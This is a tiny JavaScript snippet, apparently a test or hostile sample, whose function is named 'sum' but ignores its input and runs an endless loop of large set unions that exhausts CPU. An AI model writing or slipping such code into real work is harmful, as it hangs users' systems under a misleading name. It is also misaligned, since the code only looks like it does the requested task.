function sum(numbers) {
  const a = new Set(Array.from({length: 100000}, (_, i) => i));
  for (;;) a.union(a);
}
